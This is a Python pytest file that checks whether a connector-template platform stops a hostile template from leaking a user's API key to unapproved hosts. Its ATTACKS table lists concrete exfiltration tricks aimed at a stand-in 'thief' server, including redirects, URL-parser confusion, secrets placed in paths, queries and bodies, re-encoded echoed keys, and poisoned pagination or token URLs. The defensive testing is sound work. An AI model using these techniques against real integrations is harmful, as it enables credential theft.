"""A hostile template, installed by somebody who suspects nothing: whatever it tries, the key they
gave goes to no host but those that they agreed to."""

from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import suppress
from typing import Any
from uuid import UUID

import psycopg
import pytest
from psycopg.types.json import Jsonb

from app.main import Console, build
from app.services.problems import ServiceProblem
from app.services.testing import Trial
from app.settings import Settings
from db.logins import Logins
from engine.effects.master_key import MasterKey
from engine.effects.redact import Redactor
from engine.errors import BadDefinition
from tests.app.running.test_templates import KEY
from tests.providers.service import Service

Template = dict[str, Any]
HEADER = {"type": "header", "name": "X-Api-Key"}
AUTHS = {
    "header": HEADER,
    "query": {"type": "query", "name": "key"},
    "bearer": {"type": "bearer"},
    "basic": {"type": "basic", "username": "api_key", "password": ""},
}


@pytest.fixture
def thief() -> Iterator[Service]:
    """Another host, as allowed on this network as the first, and in nobody's consent."""
    started = Service().start()
    yield started
    started.stop()


@pytest.fixture
async def console(
    owner_url: str, console_url: str, service: Service, thief: Service
) -> AsyncIterator[Console]:
    port = thief.host.partition(":")[2]
    settings = Settings(allow_private=f"{service.host},{thief.host},localhost:{port}")
    logins = Logins(owner_url, console_url)
    made = build(settings, logins, MasterKey(bytes(range(32))), with_pages=False)
    await made.start(with_worker=True)
    yield made
    await made.stop()


def step(name: str, url: str, **more: Any) -> dict[str, Any]:
    request = {"method": "GET", "url": url, **more.pop("request", {})}
    return {"id": name, "kind": "http", "credential": "people", "request": request, **more}


def template(steps: list[Any], service: Service, auth: Any = HEADER, **more: Any) -> Template:
    field = {"name": "api_key", "title": "API key"}
    plain = {"name": "place", "title": "Place", "secret": False, "optional": True}
    slot = {
        "service_name": "people",
        "title": "People Finder",
        "auth": auth,
        "fields": [field, plain],
        "allowed_hosts": [service.host],
        **more,
    }
    return {"config": {"steps": steps}, "slots": [slot]}


def redirects(auth: str) -> Callable[[Service, Service], Template]:
    def made(service: Service, thief: Service) -> Template:
        ask = f"{service.url}/redirect?to={thief.url}/echo"
        return template([step("one", ask)], service, AUTHS[auth])

    return made


def host_of_the_contact(service: Service, thief: Service) -> Template:
    return template([step("one", "http://{{ contact.data.host }}/echo")], service)


def address_of_the_contact(service: Service, thief: Service) -> Template:
    return template([step("one", "{{ contact.data.url }}/echo")], service)


def host_of_an_answer(service: Service, thief: Service) -> Template:
    service.says = {"host": thief.host}
    ask = step("ask", f"{service.url}/say", extract={"host": "$.host"})
    return template([ask, step("one", "http://{{ steps.ask.host }}/echo")], service)


def host_of_a_setting(service: Service, thief: Service) -> Template:
    return template([step("one", "http://{{ credential.settings.place }}/echo")], service)


def looks_like_the_host(spelling: str) -> Callable[[Service, Service], Template]:
    def made(service: Service, thief: Service) -> Template:
        return template([step("one", spelling.format(good=service.host, bad=thief.host))], service)

    return made


def the_host_under_another_name(service: Service, thief: Service) -> Template:
    other = thief.url.replace("127.0.0.1", "localhost")
    return template([step("one", f"{other}/echo")], service)


def secret_in_the_address(service: Service, thief: Service) -> Template:
    return template([step("one", thief.url + "/echo/{{ credential.api_key }}")], service)


def secret_in_the_query(service: Service, thief: Service) -> Template:
    query = {"q": "{{ credential.secret }}", "r": "{{ credential.settings.api_key }}"}
    return template([step("one", f"{thief.url}/echo", request={"query": query})], service)


def secret_in_the_body(service: Service, thief: Service) -> Template:
    body = {"json": {"q": "{{ credential.secrets.api_key }}"}}
    request = {"method": "POST", "body": body}
    return template([step("one", f"{thief.url}/echo", request=request)], service)


def echoed_and_passed_on(service: Service, thief: Service) -> Template:
    """The agreed service repeats the key; the next step, which takes none, would carry it away."""
    ask = step("ask", f"{service.url}/echo", extract={"all": "$.headers"})
    said = {"json": {"a": "{{ steps.ask.all }}", "b": "{{ steps.ask.all | json | base64 }}"}}
    post = {"method": "POST", "body": said}
    carry = {**step("one", f"{thief.url}/echo", request=post), "credential": None}
    return template([ask, carry], service)


def echoed_and_passed_on_in_pieces(service: Service, thief: Service) -> Template:
    ask = step("ask", f"{service.url}/echo", extract={"key": "$.headers['x-api-key']"})
    parts = {"a": "{{ steps.ask.key | truncate(9) }}", "b": "{{ steps.ask.key | split('-') }}"}
    carry = {**step("one", f"{thief.url}/echo", request={"query": parts}), "credential": None}
    return template([ask, carry], service)


def the_next_page(kind: str) -> Callable[[Service, Service], Template]:
    def made(service: Service, thief: Service) -> Template:
        service.says = {"results": [{"id": 1}], "next": f"{thief.url}/pages/next_url"}
        first, items = f"{service.url}/say", "$.results"
        if kind == "link_header":
            link = f'<{thief.url}/pages/link>; rel="next"'
            first = f"{service.url}/echo?answer_headers=Link:{link.replace(' ', '%20')}"
            items = "$.query[*]"
        paginate = {"kind": kind, "items": items, "max_pages": 3}
        paginate |= {"next": "$.next"} if kind == "next_url" else {}
        return template([step("one", first, paginate=paginate)], service)

    return made


def asks_again_elsewhere(service: Service, thief: Service) -> Template:
    until = {"left": "{{ response.body.done }}", "op": "is_true"}
    poll = {"until": until, "every_ms": 1, "request": {"url": f"{thief.url}/echo"}}
    return template([step("one", f"{service.url}/say", poll=poll)], service)


def in_a_loop_and_a_waterfall(service: Service, thief: Service) -> Template:
    inner = {"id": "inner", "kind": "waterfall", "attempts": [
        {"name": "a", "steps": [step("one", f"{thief.url}/echo")], "result": {"x": "y"}}
    ]}  # fmt: skip
    loop = {"id": "loop", "kind": "for_each", "items": "{{ contact.data.many }}", "steps": [inner]}
    return template([loop], service)


def token_from_elsewhere(auth: dict[str, Any]) -> Callable[[Service, Service], Template]:
    def made(service: Service, thief: Service) -> Template:
        told = {
            name: value.format(bad=thief.url) if isinstance(value, str) else value
            for name, value in auth.items()
        }
        if "request" in told:
            told["request"] = {**told["request"], "url": f"{thief.url}/oauth/login"}
        return template([step("one", f"{service.url}/echo")], service, told)

    return made


def key_tried_elsewhere(service: Service, thief: Service) -> Template:
    test = {"method": "GET", "url": f"{thief.url}/echo"}
    return template([step("one", f"{thief.url}/echo")], service, test=test)


CLIENT = {"type": "oauth2_client_credentials", "token_url": "{bad}/oauth/token"}
EXCHANGE = {
    "type": "token_exchange",
    "token_path": "$.token",
    "request": {"method": "POST", "url": "", "body": {"form": {"k": "{{ credentials.api_key }}"}}},
}
ATTACKS: dict[str, Callable[[Service, Service], Template]] = {
    **{f"redirect, {auth}": redirects(auth) for auth in AUTHS},
    "host of the contact": host_of_the_contact,
    "address of the contact": address_of_the_contact,
    "host of an answer": host_of_an_answer,
    "host of a setting": host_of_a_setting,
    "user before the host": looks_like_the_host("http://{good}@{bad}/echo"),
    "fragment after the host": looks_like_the_host("http://{bad}#@{good}/echo"),
    "backslash": looks_like_the_host("http://{bad}\\@{good}/echo"),
    "no scheme": looks_like_the_host("//{bad}/echo"),
    "another name": the_host_under_another_name,
    "secret in the address": secret_in_the_address,
    "secret in the query": secret_in_the_query,
    "secret in the body": secret_in_the_body,
    "echoed": echoed_and_passed_on,
    "echoed, in pieces": echoed_and_passed_on_in_pieces,
    "next page": the_next_page("next_url"),
    "next page, link": the_next_page("link_header"),
    "asks again": asks_again_elsewhere,
    "nested": in_a_loop_and_a_waterfall,
    "token, client credentials": token_from_elsewhere({**CLIENT, "client_auth": "basic"}),
    "token, exchange": token_from_elsewhere(EXCHANGE),
    "test": key_tried_elsewhere,
}


def published(owner_url: str, made: Template) -> str:
    """As if every gate before had been passed, the reviewer's eyes too."""
    row = {name: Jsonb(value) for name, value in made.items()}
    with psycopg.connect(owner_url) as owner:
        found = owner.execute(
            "insert into connector_templates (name, is_public, config, slots)"
            " values ('Nice', true, %(config)s, %(slots)s) returning id",
            row,
        ).fetchone()
    return str(found[0])


def assert_nothing_left(thief: Service) -> None:
    secret = Redactor([KEY, KEY[:12], KEY[-12:]])
    for call in thief.ledger:
        told = [call.path, call.query_string, call.text, *call.headers.values()]
        assert not secret.sees("\n".join(told).encode()), (call.path, call.query_string)
        assert "x-api-key" not in call.headers
        assert "authorization" not in call.headers


@pytest.fixture
async def victim(api, thief) -> str:
    """A contact as the thief would want it."""
    data = {"host": thief.host, "url": thief.url, "many": [1, 2]}
    return (await api.post("/contacts", json={"email": "ada@example.com", "data": data})).json()[
        "id"
    ]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_a_key_stays_with_the_hosts_that_were_agreed_to(
    api, console, acme, owner_url, service, thief, victim, attack
):
    made = ATTACKS[attack](service, thief)
    number = published(owner_url, made)
    given = {"people": {"api_key": KEY, "place": thief.host}}
    await rehearse(console.services, acme.owner, UUID(number), given, victim)
    assert_nothing_left(thief)
    installed = await api.post(
        f"/connector-templates/{number}/install", json={"credentials": given}
    )
    if installed.status_code == 201:
        connector = f"/connectors/{installed.json()['id']}"
        for _ in range(2):
            body = {"contact_id": victim}
            await api.post(f"{connector}/execute", json=body, headers={"Prefer": "wait=30"})
        await api.post(f"{connector}/test", json={"contact_id": victim})
    else:
        assert installed.status_code == 422, installed.text
    keys = (await api.get("/workspace/credentials")).json()["items"]
    for one in keys:
        await api.post(f"/workspace/credentials/{one['id']}/test")
    assert_nothing_left(thief)


async def test_an_address_that_is_itself_the_key_is_taken_for_agreed_hosts_only(
    api, owner_url, service, thief
):
    made = template([step("one", f"{service.url}/echo")], service, {"type": "secret_url"})
    number = published(owner_url, made)
    for address in (f"{thief.url}/hooks/{KEY}", f"http://{service.host}@{thief.host}/{KEY}"):
        given = {"people": {"api_key": address}}
        refused = await api.post(
            f"/connector-templates/{number}/install", json={"credentials": given}
        )
        assert refused.status_code == 422
        assert KEY not in refused.text
    assert thief.ledger == []


async def test_a_key_the_workspace_has_keeps_its_own_hosts_whatever_a_new_template_says(
    api, owner_url, service, thief, victim
):
    honest = template([step("one", f"{service.url}/echo")], service)
    given = {"credentials": {"people": {"api_key": KEY}}}
    first = published(owner_url, honest)
    await api.post(f"/connector-templates/{first}/install", json=given)
    with psycopg.connect(owner_url) as owner:
        owner.execute("update connector_templates set name = 'Nicer'")
    wide = template([step("one", f"{thief.url}/echo")], service)
    wide["slots"][0]["allowed_hosts"] = [service.host, thief.host]
    second = published(owner_url, wide)
    for body in ({"name": "Without a key"}, {"name": "The same again", **given}):
        made = await api.post(f"/connector-templates/{second}/install", json=body)
        assert made.status_code == 201
        run = await executed(api, made.json()["id"], victim)
        assert run["steps_executed"][0]["error"]["code"] == "credential_not_for_host"
    assert thief.ledger == []


async def test_an_update_with_one_host_more_sends_nothing_there_until_somebody_agreed(
    api, owner_url, service, thief, victim
):
    honest = template([step("one", f"{service.url}/echo")], service)
    number = published(owner_url, honest)
    given = {"credentials": {"people": {"api_key": KEY}}}
    made = (await api.post(f"/connector-templates/{number}/install", json=given)).json()["id"]
    wide = template([step("one", f"{thief.url}/echo")], service)
    wide["slots"][0]["allowed_hosts"] = [service.host, thief.host]
    with psycopg.connect(owner_url) as owner:
        owner.execute(
            "update connector_templates set config = %s, slots = %s where id = %s",
            [Jsonb(wide["config"]), Jsonb(wide["slots"]), number],
        )
    assert (await executed(api, made, victim))["status"] == "success"  # as it was installed
    seen = (await api.get(f"/connectors/{made}/update")).json()
    assert thief.host in str(seen["consent"])
    body = {"version": seen["connector_version"], "template_version": seen["template_version"]}
    refused = await api.post(f"/connectors/{made}/update", json=body)
    assert refused.status_code == 409
    await executed(api, made, victim)
    assert thief.ledger == []
    body["agree"] = [one["id"] for one in seen["consent"]]
    agreed = await api.post(f"/connectors/{made}/update", json=body)
    assert agreed.status_code == 200, agreed.text
    assert (await executed(api, made, victim))["status"] == "success"
    assert [call.headers["x-api-key"] for call in thief.ledger] == [KEY]


async def executed(api, connector: str, contact: str) -> dict[str, Any]:
    wait = {"Prefer": "wait=30"}
    body = {"contact_id": contact}
    return (await api.post(f"/connectors/{connector}/execute", json=body, headers=wait)).json()


async def rehearse(services, actor, number: UUID, given: Any, contact: str) -> None:
    """What the wizard does before the install."""
    seen = await services.installing.look(actor, number)
    slot = seen.slots[0].slot
    for act in (
        lambda: services.installing.test_key(actor, slot, given["people"]),
        lambda: services.installing.try_on(actor, seen, given, Trial(contact_id=UUID(contact))),
    ):
        with suppress(ServiceProblem, BadDefinition):
            await act()
